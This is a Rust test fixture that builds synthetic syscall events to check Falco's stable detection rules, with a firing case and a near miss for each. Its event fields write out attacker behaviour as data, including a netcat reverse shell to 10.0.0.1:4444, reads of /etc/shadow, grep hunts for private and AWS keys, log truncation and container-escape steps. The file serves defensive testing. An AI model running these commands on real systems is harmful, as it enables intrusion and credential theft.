//! Test cases for the upstream stable rules: for each rule of Falco's
//! `falco_rules.yaml`, an event that must fire it and a near miss that must not. The
//! engine's tests check the verdicts; the query's retro-hunt test archives them and
//! checks that hunting gives the detector's alerts for every rule.

use lanner_contract::Event;
use serde_json::{Value, json};

/// One stable rule's case.
#[derive(Debug, Clone)]
pub struct RuleCase {
    /// The rule's name.
    pub rule: &'static str,
    /// An event that fires it.
    pub fires: Event,
    /// A near miss: an event like `fires` that must not fire it.
    pub misses: Event,
}

/// Every stable rule's case, in a fixed order. Events share a base (a shell on the
/// host, as alice) patched per case; a `null` in a patch removes the field. Ids are
/// `0000000000000001-<n>`, unique across the cases.
pub fn stable_rule_cases() -> Vec<RuleCase> {
    cases()
        .into_iter()
        .enumerate()
        .map(|(i, (rule, fires, misses))| RuleCase {
            rule,
            fires: event(&fires, 2 * i as u64 + 1),
            misses: event(&misses, 2 * i as u64 + 2),
        })
        .collect()
}

/// The base patched with `patch` and numbered `n`.
pub fn event(patch: &Value, n: u64) -> Event {
    let mut obj = base();
    if let (Some(o), Some(p)) = (obj.as_object_mut(), patch.as_object()) {
        for (k, v) in p {
            if v.is_null() {
                o.remove(k);
            } else {
                o.insert(k.clone(), v.clone());
            }
        }
        o.insert("evt.id".into(), json!(format!("0000000000000001-{n}")));
        o.insert("evt.num".into(), json!(n));
    }
    lanner_contract::jsonl::parse_line(&obj.to_string()).unwrap_or_default()
}

fn merge(mut o: Value, p: Value) -> Value {
    if let (Some(o), Value::Object(p)) = (o.as_object_mut(), p) {
        o.extend(p);
    }
    o
}

/// The event every case patches: a shell on the host, as alice.
pub fn base() -> Value {
    json!({
        "evt.id": "0000000000000001-1",
        "evt.time": "2026-01-01T00:00:10Z",
        "evt.num": 1,
        "evt.hostname": "node1",
        "evt.rawres": 0,
        "proc.pid": 4242,
        "proc.pid.ts": "2026-01-01T00:00:00Z",
        "proc.name": "bash",
        "proc.exe": "/bin/bash",
        "proc.exepath": "/bin/bash",
        "proc.args": "",
        "proc.cwd": "/root/",
        "proc.tty": 0,
        "proc.aname": ["sshd", "systemd"],
        "proc.aexe": ["/usr/sbin/sshd", "/sbin/init"],
        "proc.aexepath": ["/usr/sbin/sshd", "/sbin/init"],
        "user.uid": 1000,
        "user.name": "alice",
        "user.loginuid": 1000,
        "group.gid": 1000,
        "group.name": "alice",
        "container.id": "host",
    })
}

/// `p` in a container (`web`, alpine, not privileged).
pub fn in_container(p: Value) -> Value {
    let o = json!({
        "container.id": "0123456789ab",
        "container.name": "web",
        "container.image.repository": "docker.io/library/alpine",
        "container.privileged": false,
    });
    merge(o, p)
}

/// `p` as an `execve`.
pub fn exec(p: Value) -> Value {
    let o = json!({"evt.type": "execve", "evt.arg.flags": "EXE_WRITABLE"});
    merge(o, p)
}

/// `p` as an `openat` of file `name` with `flags`.
pub fn open(flags: &str, name: &str, p: Value) -> Value {
    let o = json!({"evt.type": "openat", "evt.arg.flags": flags, "fd.type": "file", "fd.num": 3, "fd.name": name, "fd.nameraw": name});
    merge(o, p)
}

/// (rule, patch that must fire it, near miss that must not).
fn cases() -> Vec<(&'static str, Value, Value)> {
    vec![
        (
            "Directory traversal monitored file read",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"fd.nameraw": "/var/www/html/../../../etc/shadow", "proc.name": "php-fpm", "proc.aname": ["nginx"]}),
            ),
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"fd.nameraw": "/var/www/html/../../../etc/shadow", "proc.name": "cat", "proc.aname": ["bash"]}),
            ),
        ),
        (
            "Read sensitive file trusted after startup",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "nginx", "proc.pid.ts": "2026-01-01T00:00:00Z"}),
            ),
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "nginx", "proc.pid.ts": "2026-01-01T00:00:08Z"}),
            ),
        ),
        (
            "Read sensitive file untrusted",
            open(
                "O_RDONLY",
                "/etc/shadow",
                json!({"proc.name": "cat", "proc.cmdline": null, "proc.args": "/etc/shadow"}),
            ),
            open("O_RDONLY", "/etc/shadow", json!({"proc.name": "iptables"})),
        ),
        (
            "Run shell untrusted",
            exec(
                json!({"proc.name": "sh", "proc.args": "-c id", "proc.aname": ["nginx", "systemd"]}),
            ),
            exec(
                json!({"proc.name": "sh", "proc.args": "-c id", "proc.aname": ["sshd", "systemd"]}),
            ),
        ),
        (
            "System user interactive",
            exec(
                json!({"user.name": "www-data", "user.uid": 33, "proc.name": "ls", "proc.aname": ["bash", "sshd"]}),
            ),
            exec(json!({"user.name": "alice", "proc.name": "ls", "proc.aname": ["bash", "sshd"]})),
        ),
        (
            "Terminal shell in container",
            in_container(exec(json!({"proc.tty": 34816, "proc.aname": ["runc"]}))),
            in_container(exec(json!({"proc.tty": 0, "proc.aname": ["runc"]}))),
        ),
        (
            "Contact K8S API Server From Container",
            in_container(
                json!({"evt.type": "connect", "fd.type": "ipv4", "fd.num": 3, "fd.sip": "10.96.0.1", "fd.sport": 443, "fd.cip": "10.1.0.5", "fd.cport": 40000, "fd.l4proto": "tcp", "fd.sip.name": "kubernetes.default.svc.cluster.local"}),
            ),
            in_container(
                json!({"evt.type": "connect", "fd.type": "ipv4", "fd.num": 3, "fd.sip": "10.96.0.1", "fd.sport": 443, "fd.l4proto": "tcp", "fd.sip.name": "kubernetes.default.svc.cluster.local", "k8s.ns.name": "kube-system"}),
            ),
        ),
        (
            "Netcat Remote Code Execution in Container",
            in_container(exec(
                json!({"proc.name": "nc", "proc.exe": "nc", "proc.args": "-e /bin/sh 10.0.0.1 4444"}),
            )),
            in_container(exec(
                json!({"proc.name": "nc", "proc.exe": "nc", "proc.args": "-l 8080"}),
            )),
        ),
        (
            "Search Private Keys or Passwords",
            exec(json!({"proc.name": "grep", "proc.args": "-r \"BEGIN RSA PRIVATE\" /home"})),
            exec(json!({"proc.name": "grep", "proc.args": "-r hello /home"})),
        ),
        (
            "Clear Log Activities",
            open(
                "O_WRONLY|O_TRUNC",
                "/var/log/syslog",
                json!({"proc.name": "sh"}),
            ),
            open(
                "O_WRONLY|O_APPEND",
                "/var/log/syslog",
                json!({"proc.name": "sh"}),
            ),
        ),
        (
            "Remove Bulk Data from Disk",
            exec(json!({"proc.name": "shred", "proc.args": "-u /data/db"})),
            exec(json!({"proc.name": "rm", "proc.args": "-rf /data/db"})),
        ),
        (
            "Create Symlink Over Sensitive Files",
            json!({"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s"}),
            json!({"evt.type": "symlinkat", "evt.arg.target": "/etc/hosts", "evt.arg.linkpath": "/tmp/s"}),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            json!({"evt.type": "linkat", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/h"}),
            json!({"evt.type": "linkat", "evt.arg.oldpath": "/tmp/a", "evt.arg.newpath": "/tmp/h"}),
        ),
        (
            "Packet socket created in container",
            in_container(
                json!({"evt.type": "socket", "evt.arg.domain": "AF_PACKET", "proc.name": "tcpdump"}),
            ),
            in_container(
                json!({"evt.type": "socket", "evt.arg.domain": "AF_INET", "proc.name": "curl"}),
            ),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            in_container(
                json!({"evt.type": "dup2", "evt.rawres": 1, "fd.num": 1, "fd.type": "ipv4", "fd.name": "10.0.0.5:40000->10.0.0.1:4444"}),
            ),
            in_container(
                json!({"evt.type": "dup2", "evt.rawres": 1, "fd.num": 1, "fd.type": "file", "fd.name": "/tmp/out"}),
            ),
        ),
        (
            "Linux Kernel Module Injection Detected",
            in_container(
                json!({"evt.type": "finit_module", "proc.name": "insmod", "thread.cap_effective": "CAP_SYS_ADMIN CAP_SYS_MODULE"}),
            ),
            in_container(
                json!({"evt.type": "finit_module", "proc.name": "insmod", "thread.cap_effective": "CAP_CHOWN"}),
            ),
        ),
        (
            "Debugfs Launched in Privileged Container",
            in_container(exec(
                json!({"proc.name": "debugfs", "container.privileged": true}),
            )),
            in_container(exec(
                json!({"proc.name": "debugfs", "container.privileged": false}),
            )),
        ),
        (
            "Detect release_agent File Container Escapes",
            in_container(open(
                "O_WRONLY",
                "/tmp/cgrp/release_agent",
                json!({"user.uid": 0, "thread.cap_effective": "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"}),
            )),
            in_container(open(
                "O_WRONLY",
                "/tmp/cgrp/release_agent",
                json!({"user.uid": 0, "thread.cap_effective": "CAP_DAC_OVERRIDE"}),
            )),
        ),
        (
            "PTRACE attached to process",
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "proc.name": "gdb"}),
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_PEEKUSR", "proc.name": "gdb"}),
        ),
        (
            "PTRACE anti-debug attempt",
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "proc.name": "malware"}),
            json!({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "proc.name": "malware"}),
        ),
        (
            "Find AWS Credentials",
            exec(json!({"proc.name": "grep", "proc.args": "-ri aws_secret_access_key /home"})),
            exec(json!({"proc.name": "grep", "proc.args": "-ri hello /home"})),
        ),
        (
            "Execution from /dev/shm",
            exec(
                json!({"proc.name": "payload", "proc.exe": "/dev/shm/payload", "proc.exepath": "/dev/shm/payload"}),
            ),
            exec(
                json!({"proc.name": "ls", "proc.exe": "/usr/bin/ls", "proc.exepath": "/usr/bin/ls", "proc.cwd": "/dev/shm/"}),
            ),
        ),
        (
            "Drop and execute new binary in container",
            in_container(exec(
                json!({"proc.name": "xmrig", "proc.is_exe_upper_layer": true}),
            )),
            in_container(exec(
                json!({"proc.name": "xmrig", "proc.is_exe_upper_layer": false}),
            )),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            json!({"evt.type": "connect", "evt.rawres": 0, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh", "fd.type": "ipv4", "fd.num": 3, "fd.l4proto": "tcp", "fd.cip": "172.17.0.2", "fd.cport": 50000, "fd.sip": "203.0.113.7", "fd.sport": 443}),
            json!({"evt.type": "connect", "evt.rawres": 0, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh", "fd.type": "ipv4", "fd.num": 3, "fd.l4proto": "tcp", "fd.cip": "172.17.0.2", "fd.cport": 50000, "fd.sip": "203.0.113.7", "fd.sport": 22}),
        ),
        (
            "Fileless execution via memfd_create",
            exec(json!({"proc.name": "x", "proc.exe": "memfd:x", "proc.is_exe_from_memfd": true})),
            exec(
                json!({"proc.name": "runc", "proc.exe": "memfd:runc_cloned:/proc/self/exe", "proc.is_exe_from_memfd": true}),
            ),
        ),
    ]
}
